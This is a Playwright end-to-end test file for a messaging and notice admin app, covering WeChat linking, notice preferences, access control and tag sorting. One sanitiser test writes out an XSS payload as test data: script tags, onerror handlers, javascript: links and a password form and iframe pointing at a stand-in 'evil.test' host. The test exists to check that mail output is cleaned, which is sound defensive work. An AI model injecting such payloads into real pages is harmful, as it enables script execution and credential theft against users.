import type { Page } from '@playwright/test';
import { act, dataOf, mailsTo, rowsOf } from './support/responses';
import { settle } from './support/calls';
import type { Caller, Language } from './support/fixtures';
import { expect, showAs, test } from './support/fixtures';
import { PHONE, WIDE, expectAccessible, expectFits, expectWords, watch } from './support/inspect';
import { LONG } from './support/long';
import { FIRST_PASSWORD, makeAgent } from './support/testUsers';
import { button, dialog, input, rowOf, section } from './support/screens';

const PATHS = {
  profile: '/user/my-profile',
  appMessages: '/message/app-message',
  topics: '/business/topic-list',
  dictionary: '/setting/dictionary',
} as const;
const APP_ID = 'wx8f3a21c6b7d4e906';
const TEMPLATE = 'ngqIpbwh8bUfcSsECmogfXcV14J0tQlEpBO27izEYtY';

async function look(page: Page, name: string, lang: Language): Promise<void> {
  await settle(page);
  if (process.env.SHORT === 'on') return;
  await expectWords(page, lang, name);
  await expectAccessible(page, name);
  for (const [at, size] of [
    ['1440', WIDE],
    ['375', PHONE],
  ] as const) {
    await page.setViewportSize(size);
    await expectFits(page, `${name} at ${at}`);
    await page.screenshot({ path: `test-results/notices-${name}-${lang}-${at}.png`, fullPage: true });
  }
  await page.setViewportSize(WIDE);
}

async function setUpAccount(agent: Caller): Promise<void> {
  const [own] = await rowsOf<{ id: number }>(agent, '/t3d-api/wxmp-settings?size=1');
  const values = {
    appId: APP_ID,
    appSecret: '0123456789abcdef0123456789abcdef',
    token: 'NoticesToken1',
    mode: 'PLAIN',
  };
  const answer = own
    ? await agent.put(`/t3d-api/wxmp-settings/${own.id}`, values)
    : await agent.post('/t3d-api/wxmp-settings', values);
  expect(answer.status(), await answer.text()).toBe(200);
}

test('lets an agent set message templates, and a sub-agent link and unlink WeChat with a code', async ({
  page,
  callAs,
  request,
}) => {
  const problems = watch(page);
  const agent = await callAs('agent1');
  await setUpAccount(agent);
  await page.setViewportSize(WIDE);
  await showAs(page, agent.sessionId, '/user/wxmp', 'zh');
  await button(section(page, 'templates'), '编辑模板').click();
  await page.getByLabel('系统消息: 模板 ID').fill(TEMPLATE);
  await look(page, 'templates-dialog', 'zh');
  await button(dialog(page), '使用这些模板').click();
  await button(page, /^保存 \d/).click();
  await expect(page.locator('[data-foot]')).toHaveCount(0);
  await expect(section(page, 'templates')).toContainText('thing1 = 标题');
  await look(page, 'templates', 'zh');

  const child = await callAs('agent2');
  await showAs(page, child.sessionId, PATHS.profile, 'zh');
  await button(page, '绑定微信').click();
  await expect(page.locator('[data-link-code]')).toBeVisible();
  await look(page, 'link-code', 'zh');
  const url = await page.locator('[data-qr]').first().getAttribute('data-qr');
  const scanned = await request.post('/simulator/wechat/scan', { data: { url } });
  const { scene } = ((await scanned.json()) as { data: { scene: string } }).data;
  await request.post('/simulator/wechat/messages', {
    data: { appId: APP_ID, event: 'SCAN', text: scene, from: 'o_browser_1' },
  });
  await expect(page.getByText('已绑定', { exact: true })).toBeVisible();
  await look(page, 'linked', 'zh');
  await button(page, '解除绑定').click();
  await button(dialog(page), '解除绑定').click();
  await expect(button(page, '绑定微信')).toBeVisible();
  expect(problems).toEqual([]);
});

test(`lets a user choose the kinds and channels of notices and the quiet hours ${LONG}`, async ({ page, callAs }) => {
  const problems = watch(page);
  const agent = await callAs('agent1');
  await page.setViewportSize(WIDE);
  await showAs(page, agent.sessionId, PATHS.profile, 'zh');
  const kind = (name: string, channel: string) => page.getByLabel(`${name}: ${channel}`);
  await expect(kind('系统消息', '邮件')).toBeChecked();
  await expect(kind('套餐上架', '微信')).not.toBeChecked();
  await kind('系统消息', '邮件').uncheck();
  await kind('套餐上架', '微信').check();
  await page.getByLabel('免打扰时段内不发送').check();
  await page.getByLabel('从', { exact: true }).fill('21:30');
  await look(page, 'profile', 'zh');
  await expect
    .poll(async () => (await dataOf<{ notices?: object }>(agent.get('/t3d-api/sessions/preferences'))).notices)
    .toMatchObject({ mail: { SYSTEM: false }, wechat: { UP: true }, quiet: { from: 1290, to: 480 } });
  await page.reload();
  await expect(kind('系统消息', '邮件')).not.toBeChecked();
  await expect(kind('套餐上架', '微信')).toBeChecked();
  await expect(page.getByLabel('从', { exact: true })).toHaveValue('21:30');
  await kind('系统消息', '邮件').check();
  await page.getByLabel('免打扰时段内不发送').uncheck();
  expect(problems).toEqual([]);
});

test(`runs no script of a message in the mail of the message ${LONG}`, async ({ page, admin, request }) => {
  const agent = await makeAgent(admin);
  const evil = (name: string): string =>
    `${name}<script>window.hacked=true</script><img src=x onerror="window.hacked=true">` +
    '<img src="https://tracker.test/1.gif?reader=7"><style>body{display:none}</style>' +
    '<form action="https://evil.test"><input name="password"></form><iframe src="https://evil.test"></iframe>' +
    '<a href="javascript:window.hacked=true">press</a><a href="https://shop.test/?utm_source=mail">shop</a>';
  const { id } = await dataOf<{ id: number }>(
    admin.post('/t3d-api/messages', {
      title: { en: 'Title<img src=x onerror="window.hacked=true"><script>hacked=1</script>' },
      content: { en: evil('Words') },
      channels: ['APP', 'MAIL'],
      audience: { accounts: [agent.id] },
    }),
  );
  await act(admin, 'messages', 'publish', { ids: [id] });
  await expect.poll(async () => (await mailsTo(request, agent.account)).length, { timeout: 90_000 }).toBeGreaterThan(0);
  await page.goto(`/simulator/mail?to=${encodeURIComponent(agent.account)}`);
  const html = (await page.locator('iframe').first().getAttribute('srcdoc')) ?? '';
  const call: string[] = [];
  page.on('request', (one) => call.push(one.url()));
  await page.goto('/healthz');
  await page.setContent(html);
  await expect(page.getByText('Words', { exact: false }).first()).toBeVisible();
  await expect(page.locator('script, style, form, input, iframe, img')).toHaveCount(0);
  expect(await page.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href')))).not.toContainEqual(
    expect.stringMatching(/javascript|utm_/),
  );
  expect(await page.evaluate(() => (window as unknown as { hacked?: boolean }).hacked ?? false)).toBe(false);
  expect(call.filter((url) => /tracker\.test|evil\.test/.test(url))).toEqual([]);
  await page.screenshot({ path: 'test-results/notices-attack-mail.png', fullPage: true });
});

test(`hides a message from users outside the message's audience, even when a user knows the id ${LONG}`, async ({
  page,
  admin,
  callAs,
}) => {
  watch(page);
  const [reader, other] = [await makeAgent(admin), await makeAgent(admin)];
  const { id } = await dataOf<{ id: number }>(
    admin.post('/t3d-api/messages', {
      title: { zh: '仅此一人' },
      content: { zh: '秘密' },
      audience: { accounts: [reader.id] },
    }),
  );
  await act(admin, 'messages', 'publish', { ids: [id] });
  const [notice] = await rowsOf<{ id: number }>(
    await callAs(reader.account, FIRST_PASSWORD),
    '/t3d-api/notifications?size=1',
  );
  const stranger = await callAs(other.account, FIRST_PASSWORD);
  expect((await stranger.get(`/t3d-api/notifications/${notice?.id}`)).status()).toBe(404);
  expect((await stranger.get(`/t3d-api/messages/${id}`)).status()).toBe(403);
  expect((await stranger.post('/t3d-api/notifications/actions/read', { ids: [notice?.id] })).status()).toBe(404);
  await showAs(page, stranger.sessionId, `/message/message-notification/${notice?.id}/show`, 'zh');
  await settle(page);
  await expect(page.locator('body')).not.toContainText('秘密');
});

test(`pushes a message of staff to app users and shows the delivery statistics ${LONG}`, async ({ page, admin }) => {
  const problems = watch(page);
  await page.setViewportSize(WIDE);
  await showAs(page, admin.sessionId, PATHS.appMessages, 'zh');
  await look(page, 'app-messages', 'zh');
  const { id } = await dataOf<{ id: number }>(
    admin.post('/t3d-api/app-messages', {
      title: { zh: '浏览器推送' },
      content: { zh: '日本线路维护' },
      type: 'BROADCAST',
    }),
  );
  await page.goto(`/t3d${PATHS.appMessages}/${id}`);
  await look(page, 'app-message-form', 'zh');
  await act(admin, 'app-messages', 'publish', { ids: [id] });
  await expect
    .poll(async () => (await dataOf<{ status: string }>(admin.get(`/t3d-api/app-messages/${id}`))).status, {
      timeout: 30_000,
    })
    .toMatch(/SENT|FAILED/);
  await page.goto(`/t3d${PATHS.appMessages}/${id}/show`);
  await look(page, 'app-message-figures', 'zh');
  expect(problems).toEqual([]);
});

test(`converts simplified to traditional Chinese in the message form, and offers WeChat as a channel ${LONG}`, async ({
  page,
  admin,
}) => {
  const problems = watch(page);
  await page.setViewportSize(WIDE);
  await showAs(page, admin.sessionId, '/message/message-management/create', 'zh');
  await page.getByLabel('标题', { exact: false }).first().fill('软件维护通知');
  await page.locator('[data-content]').fill('后天在网络中心维护');
  await page.getByRole('checkbox', { name: '微信' }).check();
  await page.getByRole('tab', { name: /^繁體/ }).click();
  await button(page, '转换简体为繁體').click();
  await expect(page.getByLabel('标题', { exact: false }).first()).toHaveValue('軟體維護通知');
  await expect(page.locator('[data-content]')).toHaveText('後天在網路中心維護');
  await look(page, 'composer', 'zh');
  expect(problems).toEqual([]);
});

async function drag(page: Page, from: string, to: string): Promise<void> {
  await page.locator(from).hover();
  await page.mouse.down();
  const target = await page.locator(to).boundingBox();
  if (!target) throw new Error('the place to drop is not shown');
  const [x, y] = [target.x + target.width / 2, target.y + target.height / 2];
  await page.mouse.move(x, y, { steps: 8 });
  await page.mouse.move(x, y + 2);
  await page.mouse.up();
}

test(`sorts tags by dragging and with the keyboard ${LONG}`, async ({ page, admin }) => {
  const problems = watch(page);
  for (const name of ['甲标签', '乙标签', '丙标签']) await admin.post('/t3d-api/plan-topics', { name, sort: 900 });
  await page.setViewportSize(WIDE);
  await showAs(page, admin.sessionId, PATHS.topics, 'zh');
  await settle(page);
  await button(page, '排序').first().click();
  const names = () => dialog(page).locator('[data-topic]').allTextContents();
  await expect.poll(names).toContain('甲标签');
  const before = await names();
  const idOf = async (name: string): Promise<string> => {
    const id = await dialog(page).locator('[data-topic]').filter({ hasText: name }).getAttribute('data-topic');
    return `[data-topic="${id}"]`;
  };
  await page.locator(await idOf('甲标签')).scrollIntoViewIfNeeded();
  await look(page, 'topics-order', 'zh');
  await drag(page, await idOf('丙标签'), await idOf('甲标签'));
  const dragged = await names();
  expect(dragged.indexOf('丙标签')).toBeLessThan(dragged.indexOf('甲标签'));
  expect(before.indexOf('丙标签')).toBeGreaterThan(before.indexOf('甲标签'));
  await page.locator(await idOf('乙标签')).focus();
  await page.keyboard.press('Alt+ArrowUp');
  await expect(page.locator(await idOf('乙标签'))).toBeFocused();
  const moved = await names();
  expect(moved.indexOf('乙标签')).toBe(dragged.indexOf('乙标签') - 1);
  await button(dialog(page), '保存顺序').click();
  await expect(dialog(page)).toHaveCount(0);
  const kept = (await rowsOf<{ name: string }>(admin, '/t3d-api/plan-topics?size=200&sort=sort&order=ASC')).map(
    ({ name }) => name,
  );
  expect(kept).toEqual(moved);
  expect(problems).toEqual([]);
});

test(`offers a new tag immediately in a page that is already open ${LONG}`, async ({ page, admin }) => {
  watch(page);
  await page.setViewportSize(WIDE);
  await showAs(page, admin.sessionId, '/package-list/package-delivery/create', 'zh');
  await settle(page);
  const second = await page.context().newPage();
  watch(second);
  await second.goto(`/t3d${PATHS.topics}/create`);
  await settle(second);
  const name = `即时标签${Date.now() % 100_000}`;
  await input(second, '简称').fill(name);
  await button(second, /^(保存|创建)/)
    .first()
    .click();
  await expect(rowOf(second, name).or(second.getByText(name)).first()).toBeVisible();
  await page.bringToFront();
  await page.getByRole('combobox', { name: /^标签/ }).first().click();
  await expect(page.getByRole('option', { name })).toBeVisible();
  await page.keyboard.press('Escape');
  await second.goto(`/t3d${PATHS.dictionary}`);
  await look(second, 'dictionary', 'zh');
});
